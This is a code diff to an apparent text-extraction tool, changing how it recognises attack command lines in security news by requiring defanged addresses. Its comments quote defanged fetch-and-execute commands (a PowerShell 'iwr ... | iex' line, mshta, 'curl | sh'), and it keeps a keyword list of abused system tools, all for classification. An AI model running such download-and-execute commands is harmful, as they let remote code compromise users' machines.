@@ -79,10 +79,12 @@ _OPENING_CHARACTERS = 4
 # A security desk's command line set between the story's paragraphs, as the attack or the fix runs it
 # (BleepingComputer's 'powershell -w h -c "iwr hxxps://cdn-verify[.]com/s.ps1 | iex"', "curl -fsSL https://... |
 # sh", "mshta.exe hxxps://..."): a shell's program in lower case, a switch after it ("-w", "/c", "--rm") or an
-# address (defanged or not), and no stop closing the line. Code, which no summary reads as a sentence; the
-# story's sentence about the command opens on a capital and runs on in words ("PowerShell then downloads a
-# script ..."). Not a program's own word after it ("npm install tidepool@3.2"): a project's release post shows
-# its reader that line as its news (a page of the extraction bench's gold keeps it).
+# address, and no stop closing the line, and an address defanged in it ("hxxps://", "cdn-verify[.]com"): the
+# desk's sign that the line is an attack's, not one for its reader to run. Code, which no summary reads as a
+# sentence; the story's sentence about the command opens on a capital and runs on in words ("PowerShell then
+# downloads a script ..."). Not a how-to's or a release note's command, which the reader came for ("curl -sSL
+# https://install.python-poetry.org | python3 -", "sudo apt-get -y install ffmpeg", "npm install
+# tidepool@3.2": a page of the extraction bench's gold keeps the last).
 _COMMANDS = (
     "powershell", "pwsh", "cmd", "curl", "wget", "iwr", "iex", "mshta", "rundll32", "regsvr32", "certutil",
     "bitsadmin", "msiexec", "sudo", "bash", "chmod", "git", "npm", "pip", "pip3", "apt", "apt-get", "brew",
@@ -238,6 +240,7 @@ def is_figures_line(text: str) -> bool:
             return (
                 size <= _COMMAND_LINE_MAX_CHARACTERS
                 and last not in ".!?"
+                and ("hxxp" in text or "[.]" in text)
                 and _COMMAND_LINE.match(text) is not None
             )
         if (provider := _DATA_PROVIDER.fullmatch(text)) is not None:
